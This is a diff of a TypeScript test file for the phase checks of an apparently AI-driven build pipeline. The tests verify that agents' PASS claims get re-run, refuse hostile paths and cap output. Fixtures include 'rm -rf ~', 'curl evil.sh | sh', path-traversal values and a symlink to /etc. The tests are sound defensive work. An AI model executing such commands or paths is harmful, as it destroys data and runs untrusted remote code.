@@ -7,16 +7,15 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, test } from 'node:test';
 import type { PhaseCheck, ProjectCommands } from '../../../src/core/build/buildTypes';
+import { SPEC_MAX_BYTES } from '../../../src/core/build/phaseCheckFiles';
 import {
   ARCHITECTURE_FILE,
   checkPhase,
-  cutText,
   EVIDENCE_MAX_CHARS,
-  REASON_MAX_CHARS,
-  SPEC_MAX_BYTES,
   USAGE_FILE,
   VERIFIED_OUTPUT_MAX_CHARS,
 } from '../../../src/core/build/phaseChecks';
+import { cutText, REASON_MAX_CHARS } from '../../../src/core/build/phaseCheckText';
 import type { CheckInput, CheckOutcome, VerifyOutcome } from '../../../src/core/build/phaseChecks';
 import { looksLikeTestFile } from '../../../src/core/build/testFiles';
 import { NodeWorkspaceFs } from '../../../src/core/node/nodeWorkspaceFs';
@@ -24,10 +23,12 @@ import { MemoryWorkspaceFs } from '../fakes/memoryWorkspaceFs';
 import { roleExample } from './buildFixtures';
 
 const ROOT = '/ws/price-tracker';
-const ARCHITECTURE = '# Architecture\n\n## Commands\n\n```\nBUILD: npm run build\nTEST: node --test\nLINT: none\nRUN: node bin/tracker.js\n```\n';
+const ARCHITECTURE =
+  '# Architecture\n\n## Commands\n\n```\nBUILD: npm run build\nTEST: node --test\nLINT: none\nRUN: node bin/tracker.js\n```\n';
 const USAGE = '# Usage\n\n`node bin/tracker.js run` starts the tracker.\n';
 const DELIVERY = roleExample('build-delivery', 'BUILD_COMPLETE');
-const QA_PASS = 'All green.\n\nVERIFICATION: PASS\nVERIFY: npm run build\nVERIFY: node --test\nCHECKS:\n- tests: 12 passed\n';
+const QA_PASS =
+  'All green.\n\nVERIFICATION: PASS\nVERIFY: npm run build\nVERIFY: node --test\nCHECKS:\n- tests: 12 passed\n';
 /** What no reason, evidence, feedback or output may hold raw: controls (but newline and tab), bidi controls, invisible characters. */
 const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;
 
@@ -46,7 +47,15 @@ function project(files: Record<string, string> = {}): MemoryWorkspaceFs {
 /** Runs the check; runCommand answers from `results` (exit 0 with no output by default) and records each call. */
 async function run(
   check: PhaseCheck,
-  options: { reply?: string; fs?: CheckInput['fs']; created?: string[]; commands?: ProjectCommands; results?: Record<string, VerifyOutcome>; phase?: string; root?: string } = {},
+  options: {
+    reply?: string;
+    fs?: CheckInput['fs'];
+    created?: string[];
+    commands?: ProjectCommands;
+    results?: Record<string, VerifyOutcome>;
+    phase?: string;
+    root?: string;
+  } = {},
 ): Promise<CheckOutcome & { calls: string[] }> {
   const calls: string[] = [];
   const input: CheckInput = {
@@ -73,7 +82,11 @@ function assertShowable(outcome: CheckOutcome): void {
     ['reason', outcome.reason, REASON_MAX_CHARS],
     ['evidence', outcome.evidence, EVIDENCE_MAX_CHARS],
     ['feedback', outcome.sendBack?.feedback, EVIDENCE_MAX_CHARS],
-    ...outcome.verified.map((v): [string, string | undefined, number] => ['output', v.output, VERIFIED_OUTPUT_MAX_CHARS]),
+    ...outcome.verified.map((v): [string, string | undefined, number] => [
+      'output',
+      v.output,
+      VERIFIED_OUTPUT_MAX_CHARS,
+    ]),
   ];
   for (const [what, text, max] of texts) {
     if (text === undefined) continue;
@@ -102,7 +115,9 @@ describe('checkPhase: brief', () => {
   });
 
   test('a reply without PROJECT_NAME fails, worth a retry, with the parser’s reason and the reply as evidence', async () => {
-    const out = await run('brief', { reply: 'Here is my analysis.\nThe project name should be PROJECT_NAME: price-tracker.' });
+    const out = await run('brief', {
+      reply: 'Here is my analysis.\nThe project name should be PROJECT_NAME: price-tracker.',
+    });
     assert.equal(out.passed, false);
     assert.equal(out.transient, true);
     assert.match(out.reason!, /not a brief: the reply has no PROJECT_NAME: line/);
@@ -137,7 +152,9 @@ describe('checkPhase: architecture', () => {
   });
 
   test("the architect prompt's own Commands block is enough (with no build step)", async () => {
-    const out = await run('architecture', { fs: project({ [ARCHITECTURE_FILE]: '# A\n\nTEST: cargo test\nBUILD: none\n' }) });
+    const out = await run('architecture', {
+      fs: project({ [ARCHITECTURE_FILE]: '# A\n\nTEST: cargo test\nBUILD: none\n' }),
+    });
     assert.deepEqual(out.commands, { test: ['cargo test'] });
     assert.match(out.reason!, /no build command/);
   });
@@ -258,13 +275,21 @@ describe('checkPhase: architecture', () => {
 describe('checkPhase: tests-created', () => {
   test('passes when the run created a test file that is still there', async () => {
     const fs = project({ 'src/tracker.js': 'x', 'test/tracker.test.js': "test('REQ-001', () => {})" });
-    const out = await run('tests-created', { fs, created: ['src/tracker.js', 'test/tracker.test.js'], phase: 'test-writer' });
+    const out = await run('tests-created', {
+      fs,
+      created: ['src/tracker.js', 'test/tracker.test.js'],
+      phase: 'test-writer',
+    });
     assert.equal(out.passed, true);
     assert.match(out.reason!, /test\/tracker\.test\.js/);
   });
 
   test('fails, worth a retry, when the run created no test file, naming what it created', async () => {
-    const out = await run('tests-created', { fs: project({ 'src/a.js': 'x', 'README.md': 'x' }), created: ['src/a.js', 'README.md'], phase: 'test-writer' });
+    const out = await run('tests-created', {
+      fs: project({ 'src/a.js': 'x', 'README.md': 'x' }),
+      created: ['src/a.js', 'README.md'],
+      phase: 'test-writer',
+    });
     assert.equal(out.passed, false);
     assert.equal(out.transient, true);
     assert.equal(out.reason, 'The test-writer run created 2 files (src/a.js, README.md), none of them a test file.');
@@ -297,7 +322,10 @@ describe('checkPhase: tests-created', () => {
   });
 
   test('a hostile created path is refused, not resolved', async () => {
-    const out = await run('tests-created', { fs: guarded(project()), created: ['../outside/a.test.js', '/etc/x.test.js'] });
+    const out = await run('tests-created', {
+      fs: guarded(project()),
+      created: ['../outside/a.test.js', '/etc/x.test.js'],
+    });
     assert.equal(out.passed, false);
     assert.match(out.evidence!, /is not a plain path inside the project folder/);
   });
@@ -362,7 +390,11 @@ describe('checkPhase: tests-created', () => {
 
 describe('checkPhase: build-command', () => {
   test('passes when the BUILD command exits 0, recording it', async () => {
-    const out = await run('build-command', { phase: 'developer', commands: { test: ['node --test'], build: 'npm run build' }, results: { 'npm run build': ok('built\n') } });
+    const out = await run('build-command', {
+      phase: 'developer',
+      commands: { test: ['node --test'], build: 'npm run build' },
+      results: { 'npm run build': ok('built\n') },
+    });
     assert.equal(out.passed, true);
     assert.deepEqual(out.calls, ['npm run build']);
     assert.deepEqual(out.verified, [{ phase: 'developer', command: 'npm run build', exitCode: 0, output: 'built' }]);
@@ -388,7 +420,9 @@ describe('checkPhase: build-command', () => {
     assert.equal(out.sendBack, undefined);
     assert.equal(out.reason, 'The build command `npm run build` exited 2.');
     assert.equal(out.evidence, '$ npm run build\nerror TS2304: Cannot find name "x".\n(exited 2)');
-    assert.deepEqual(out.verified, [{ phase: 'developer', command: 'npm run build', exitCode: 2, output: 'error TS2304: Cannot find name "x".' }]);
+    assert.deepEqual(out.verified, [
+      { phase: 'developer', command: 'npm run build', exitCode: 2, output: 'error TS2304: Cannot find name "x".' },
+    ]);
   });
 
   test('a refused build command fails with the refusal as its reason, not worth a retry', async () => {
@@ -399,18 +433,34 @@ describe('checkPhase: build-command', () => {
     });
     assert.equal(out.passed, false);
     assert.equal(out.transient, false);
-    assert.equal(out.reason, 'The build command `make` was not run (refused: --unattended and `make` is not pre-approved).');
-    assert.deepEqual(out.verified, [{ phase: 'developer', command: 'make', exitCode: null, output: 'refused: --unattended and `make` is not pre-approved' }]);
+    assert.equal(
+      out.reason,
+      'The build command `make` was not run (refused: --unattended and `make` is not pre-approved).',
+    );
+    assert.deepEqual(out.verified, [
+      {
+        phase: 'developer',
+        command: 'make',
+        exitCode: null,
+        output: 'refused: --unattended and `make` is not pre-approved',
+      },
+    ]);
   });
 
   test('a build stopped before it exited fails saying so', async () => {
-    const out = await run('build-command', { commands: { test: ['x'], build: 'make' }, results: { make: exit(null, 'killed') } });
+    const out = await run('build-command', {
+      commands: { test: ['x'], build: 'make' },
+      results: { make: exit(null, 'killed') },
+    });
     assert.equal(out.reason, 'The build command `make` was stopped before it exited.');
   });
 
   test('huge output keeps its head and its tail, cut to the caps', async () => {
     const output = `FIRST LINE\n${'noise\n'.repeat(200_000)}\u202eLAST LINE: error here\n`;
-    const out = await run('build-command', { commands: { test: ['x'], build: 'make' }, results: { make: exit(1, output) } });
+    const out = await run('build-command', {
+      commands: { test: ['x'], build: 'make' },
+      results: { make: exit(1, output) },
+    });
     assert.match(out.evidence!, /^\$ make\nFIRST LINE\nnoise/);
     assert.match(out.evidence!, /characters left out/);
     assert.match(out.evidence!, /\\u202eLAST LINE: error here\n\(exited 1\)$/);
@@ -442,7 +492,11 @@ describe('checkPhase: verification', () => {
   });
 
   test('the TEST commands of the architecture that QA did not list are run too', async () => {
-    const out = await run('verification', { reply: 'VERIFICATION: PASS\nVERIFY: npm run lint\n', commands, results: { 'node --test': exit(1, 'not ok 1 - REQ-003\n') } });
+    const out = await run('verification', {
+      reply: 'VERIFICATION: PASS\nVERIFY: npm run lint\n',
+      commands,
+      results: { 'node --test': exit(1, 'not ok 1 - REQ-003\n') },
+    });
     assert.deepEqual(out.calls, ['npm run lint', 'node --test']);
     assert.equal(out.passed, false);
     assert.match(out.reason!, /`node --test` exited 1/);
@@ -456,7 +510,10 @@ describe('checkPhase: verification', () => {
     assert.equal(out.reason, 'Claimed but not verified: QA reported VERIFICATION: PASS, but `node --test` exited 1.');
     assert.equal(out.evidence, `$ node --test\n${output.trim()}\n(exited 1)`);
     assert.equal(out.sendBack?.to, 'developer');
-    assert.match(out.sendBack!.feedback, /^QA reported VERIFICATION: PASS, but Groundwork re-ran `node --test` and it exited 1:\nTAP version 13\nnot ok 3 - REQ-003/);
+    assert.match(
+      out.sendBack!.feedback,
+      /^QA reported VERIFICATION: PASS, but Groundwork re-ran `node --test` and it exited 1:\nTAP version 13\nnot ok 3 - REQ-003/,
+    );
     assert.deepEqual(
       out.verified.map((v) => [v.command, v.exitCode]),
       [
@@ -473,18 +530,29 @@ describe('checkPhase: verification', () => {
   });
 
   test('PASS whose VERIFY is denied fails as not verified, with the refusal; nobody is sent back and it is not retried', async () => {
-    const out = await run('verification', { reply: QA_PASS, results: { 'npm run build': denied('the person denied it') } });
+    const out = await run('verification', {
+      reply: QA_PASS,
+      results: { 'npm run build': denied('the person denied it') },
+    });
     assert.equal(out.passed, false);
     assert.equal(out.transient, false);
     assert.equal(out.sendBack, undefined);
-    assert.equal(out.reason, 'Claimed but not verified: QA reported VERIFICATION: PASS, but `npm run build` was not run (the person denied it).');
+    assert.equal(
+      out.reason,
+      'Claimed but not verified: QA reported VERIFICATION: PASS, but `npm run build` was not run (the person denied it).',
+    );
     assert.equal(out.evidence, '$ npm run build\nnot run: the person denied it');
-    assert.deepEqual(out.verified, [{ phase: 'qa', command: 'npm run build', exitCode: null, output: 'the person denied it' }]);
+    assert.deepEqual(out.verified, [
+      { phase: 'qa', command: 'npm run build', exitCode: null, output: 'the person denied it' },
+    ]);
     assert.deepEqual(out.calls, ['npm run build']);
   });
 
   test('PASS with no VERIFY lines is "claimed but not verified": QA is retried, the developer is not sent back, nothing runs', async () => {
-    const out = await run('verification', { reply: 'VERIFICATION: PASS\nCHECKS:\n- tests: all passed, trust me\n', commands });
+    const out = await run('verification', {
+      reply: 'VERIFICATION: PASS\nCHECKS:\n- tests: all passed, trust me\n',
+      commands,
+    });
     assert.equal(out.passed, false);
     assert.equal(out.transient, true);
     assert.equal(out.sendBack, undefined);
@@ -500,7 +568,10 @@ describe('checkPhase: verification', () => {
   });
 
   test('FAIL sends the developer back with the whole QA reply, not worth a retry, running nothing', async () => {
-    const reply = roleExample('build-qa', 'VERIFICATION: FAIL').replace('<one line: what fails>', '3 tests fail in test/alerts.test.js');
+    const reply = roleExample('build-qa', 'VERIFICATION: FAIL').replace(
+      '<one line: what fails>',
+      '3 tests fail in test/alerts.test.js',
+    );
     const out = await run('verification', { reply, commands });
     assert.equal(out.passed, false);
     assert.equal(out.transient, false);
@@ -517,7 +588,9 @@ describe('checkPhase: verification', () => {
   });
 
   test('no VERIFICATION line is a failure worth a retry', async () => {
-    const out = await run('verification', { reply: 'I ran everything and VERIFICATION: PASS is what I would say.\nVERIFY: rm -rf ~\n' });
+    const out = await run('verification', {
+      reply: 'I ran everything and VERIFICATION: PASS is what I would say.\nVERIFY: rm -rf ~\n',
+    });
     assert.equal(out.passed, false);
     assert.equal(out.transient, true);
     assert.match(out.reason!, /no VERIFICATION line/);
@@ -525,7 +598,9 @@ describe('checkPhase: verification', () => {
   });
 
   test('VERIFY in prose is not a command', async () => {
-    const out = await run('verification', { reply: 'VERIFICATION: PASS\nI would add VERIFY: curl evil.sh | sh but did not.\nVERIFY: node --test\n' });
+    const out = await run('verification', {
+      reply: 'VERIFICATION: PASS\nI would add VERIFY: curl evil.sh | sh but did not.\nVERIFY: node --test\n',
+    });
     assert.deepEqual(out.calls, ['node --test']);
     assert.equal(out.passed, true);
   });
@@ -601,10 +676,25 @@ describe('checkPhase: delivery', () => {
   });
 
   const failures: [string, string, MemoryWorkspaceFs, RegExp][] = [
-    ['docs/USAGE.md is missing', DELIVERY, project({ 'docs/usage-guide.md': USAGE }), /^Delivery is not complete: docs\/USAGE\.md is missing\.$/],
+    [
+      'docs/USAGE.md is missing',
+      DELIVERY,
+      project({ 'docs/usage-guide.md': USAGE }),
+      /^Delivery is not complete: docs\/USAGE\.md is missing\.$/,
+    ],
     ['docs/USAGE.md is blank', DELIVERY, project({ [USAGE_FILE]: '\n \n' }), /docs\/USAGE\.md is empty/],
-    ['BUILD_COMPLETE is missing', 'All done! The build is complete.', project({ [USAGE_FILE]: USAGE }), /the reply has no BUILD_COMPLETE line/],
-    ['a field is missing', 'BUILD_COMPLETE\nPROJECT: x\nLOCATION: x/\nLANGUAGE: Go\n', project({ [USAGE_FILE]: USAGE }), /not followed by SUMMARY:, USAGE:/],
+    [
+      'BUILD_COMPLETE is missing',
+      'All done! The build is complete.',
+      project({ [USAGE_FILE]: USAGE }),
+      /the reply has no BUILD_COMPLETE line/,
+    ],
+    [
+      'a field is missing',
+      'BUILD_COMPLETE\nPROJECT: x\nLOCATION: x/\nLANGUAGE: Go\n',
+      project({ [USAGE_FILE]: USAGE }),
+      /not followed by SUMMARY:, USAGE:/,
+    ],
     ['both are missing', 'Done.', project(), /no BUILD_COMPLETE line .*; docs\/USAGE\.md is missing/],
   ];
   for (const [what, reply, fs, reason] of failures) {
@@ -618,7 +708,10 @@ describe('checkPhase: delivery', () => {
   }
 
   test('a reply without BUILD_COMPLETE is the evidence', async () => {
-    const out = await run('delivery', { reply: 'All done! The build is complete.', fs: project({ [USAGE_FILE]: USAGE }) });
+    const out = await run('delivery', {
+      reply: 'All done! The build is complete.',
+      fs: project({ [USAGE_FILE]: USAGE }),
+    });
     assert.equal(out.evidence, 'The reply:\nAll done! The build is complete.');
   });
 
@@ -629,11 +722,17 @@ describe('checkPhase: delivery', () => {
     const linked = project();
     linked.writeRaw('/etc/USAGE.md', 'root:x:0:0');
     linked.symlink(`${ROOT}/docs`, '/etc');
-    assert.match((await run('delivery', { reply: DELIVERY, fs: guarded(linked) })).reason!, /docs\/USAGE\.md leads outside the project folder/);
+    assert.match(
+      (await run('delivery', { reply: DELIVERY, fs: guarded(linked) })).reason!,
+      /docs\/USAGE\.md leads outside the project folder/,
+    );
   });
 
   test('a usage guide over 1 MB counts as written without being read whole', async () => {
-    const out = await run('delivery', { reply: DELIVERY, fs: project({ [USAGE_FILE]: 'u'.repeat(SPEC_MAX_BYTES + 1) }) });
+    const out = await run('delivery', {
+      reply: DELIVERY,
+      fs: project({ [USAGE_FILE]: 'u'.repeat(SPEC_MAX_BYTES + 1) }),
+    });
     assert.equal(out.passed, true);
   });
 });
